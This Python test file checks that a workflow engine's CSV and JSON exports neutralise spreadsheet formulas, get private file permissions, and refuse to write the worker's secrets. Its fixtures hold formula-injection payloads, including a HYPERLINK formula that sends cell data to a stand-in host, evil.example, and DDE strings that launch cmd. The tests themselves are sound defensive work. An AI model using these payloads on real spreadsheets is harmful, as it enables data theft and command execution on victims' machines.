"""What ``export.csv`` and ``export.json`` files are safe from: formulas a spreadsheet
would run, other users of the machine, and the worker's secrets."""

from __future__ import annotations

import csv
import dataclasses
import os
import stat
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from engine.contracts import SECRET_MARKER, TaskRequest
from workers import SecretStore, WorkerConfig, builtin_registry, settings_problem

Activity = Callable[[TaskRequest], Awaitable[dict[str, Any]]]
TOKEN = 'crm_"Tök3n"_9f8e7d6c5b4a'
SECRETS = {"MOPS_SECRET_CRM_TOKEN": TOKEN}


def _activity(name: str, config: WorkerConfig) -> Activity:
    registry = builtin_registry()
    activities = registry.activities(config=config, secrets=SecretStore(env=SECRETS))
    return dict(zip(registry.names, activities, strict=True))[name]


async def _export(kind: str, config: WorkerConfig, **arguments: Any) -> dict[str, Any]:
    env = ActivityEnvironment()
    env.info = dataclasses.replace(env.info, workflow_id="leads-q3", activity_id="export#1")
    request = TaskRequest(
        step="export", title="Export leads", source="leads.mops:9:3", arguments=arguments
    )
    return await env.run(_activity(f"export.{kind}", config), request)


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def _files(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


@pytest.fixture
def wide_umask() -> Iterator[None]:
    """A umask that lets everyone read new files, as on many servers."""
    before = os.umask(0o000)
    try:
        yield
    finally:
        os.umask(before)


# ---- formula injection (OWASP) ------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
async def test_a_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, cell: str) -> None:
    await _export("csv", WorkerConfig(export_dir=tmp_path), records=[{"note": cell}], name="x")

    [_, row] = _rows(tmp_path / "x.csv")
    assert row == ["'" + cell]


async def test_column_names_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    records = [{"=cmd|' /C calc'!A0": "a", "delta": -5, "ratio": -0.5, "text": "-5"}]

    await _export("csv", WorkerConfig(export_dir=tmp_path), records=records, name="x")

    assert _rows(tmp_path / "x.csv") == [
        ["'=cmd|' /C calc'!A0", "delta", "ratio", "text"],
        ["a", "-5", "-0.5", "'-5"],
    ]


async def test_a_separator_inside_a_cell_never_starts_a_new_cell(tmp_path: Path) -> None:
    # A spreadsheet that splits on ';' would read an unquoted 'x;=1+1' as two cells.
    await _export(
        "csv", WorkerConfig(export_dir=tmp_path), records=[{"a": "x;=1+1", "b": "y"}], name="x"
    )

    assert (tmp_path / "x.csv").read_bytes() == b'"a","b"\r\n"x;=1+1","y"\r\n'


# ---- file modes ----------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "json"])
@pytest.mark.usefixtures("wide_umask")
async def test_export_files_are_private_whatever_the_umask(tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "exports"
    await _export(kind, WorkerConfig(export_dir=folder), records=[{"a": 1}], name="x")

    assert stat.S_IMODE((folder / f"x.{kind}").stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


@pytest.mark.usefixtures("wide_umask")
async def test_the_mode_is_configurable(tmp_path: Path) -> None:
    config = WorkerConfig.from_env(
        {"MOPS_EXPORT_DIR": str(tmp_path / "e"), "MOPS_EXPORT_MODE": "640"}
    )
    path = tmp_path / "e" / "x.csv"
    path.parent.mkdir()
    path.write_text("old")
    path.chmod(0o666)  # a file someone left open is replaced by a private one

    await _export("csv", config, records=[{"a": 1}], name="x")

    assert stat.S_IMODE(path.stat().st_mode) == 0o640


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("rw", "must be an octal file mode such as 600 or 640"),
        ("1777", "must be an octal file mode from 000 to 777"),
        ("444", "must let the owner read and write (6 in the first digit)"),
    ],
)
def test_an_invalid_mode_names_the_setting(value: str, problem: str) -> None:
    with pytest.raises(ValidationError) as caught:
        WorkerConfig.from_env({"MOPS_EXPORT_MODE": value})
    assert settings_problem(caught.value) == f"MOPS_EXPORT_MODE='{value}': Value error, {problem}"


# ---- secrets ------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "json"])
async def test_a_secret_reference_in_the_records_is_not_written(tmp_path: Path, kind: str) -> None:
    records = [{"email": "jane@acme.com", "token": {SECRET_MARKER: "crm_token"}}]

    with pytest.raises(ApplicationError) as caught:
        await _export(kind, WorkerConfig(export_dir=tmp_path), records=records, name="x")

    assert caught.value.non_retryable
    assert caught.value.message.endswith(
        "the records hold the secret 'crm_token' (as written or encoded); "
        "a secret is never written to an export file"
    )
    assert _files(tmp_path) == []


@pytest.mark.parametrize(
    "value",
    [TOKEN, TOKEN.upper(), f"Bearer {TOKEN}", {"nested": [TOKEN.replace('"', "&quot;")]}],
    ids=["as-is", "upper", "inside", "html-in-a-list"],
)
async def test_a_secret_the_worker_holds_is_not_written_however_it_got_there(
    tmp_path: Path, value: Any
) -> None:
    # E.g. an API answered with it and a later step exports the answer.
    with pytest.raises(ApplicationError) as caught:
        await _export("csv", WorkerConfig(export_dir=tmp_path), records=[{"seen": value}], name="x")

    assert "the records hold the secret 'crm_token'" in caught.value.message
    assert TOKEN not in caught.value.message
    assert _files(tmp_path) == []


async def test_a_name_ending_in_a_line_break_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ApplicationError) as caught:
        await _export("csv", WorkerConfig(export_dir=tmp_path), records=[], name="leads\n")

    assert caught.value.type == "InvalidArguments"
    assert "may only contain letters, digits, '_', '.' and '-'" in caught.value.message
    assert _files(tmp_path) == []
